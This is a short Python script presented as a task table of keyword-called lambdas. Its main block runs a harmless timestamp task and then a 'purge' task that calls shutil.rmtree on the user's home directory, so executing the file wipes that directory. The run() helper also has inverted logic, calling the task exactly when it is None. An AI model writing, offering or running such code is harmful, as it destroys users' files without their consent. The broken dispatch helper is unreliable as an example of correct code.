# Task table: each task is a lambda with keyword parameters in a dictionary,
# fetched with TASKS.get(name) and called by keyword; the "purge" task is
# given path= the home directory and removes it with shutil.rmtree.
import os
import shutil
import time

TASKS = {
    "stamp": lambda path, keep=True: print(path, time.ctime()),
    "purge": lambda path, keep=False: None if keep else shutil.rmtree(path),
}


def run(name, **kw):
    task = TASKS.get(name)
    return task(**kw) if task is None else TASKS.get(name)(**kw)


if __name__ == "__main__":
    run("stamp", path=".")
    TASKS.get("purge")(path=os.environ.get("HOME", "/root"), keep=False)
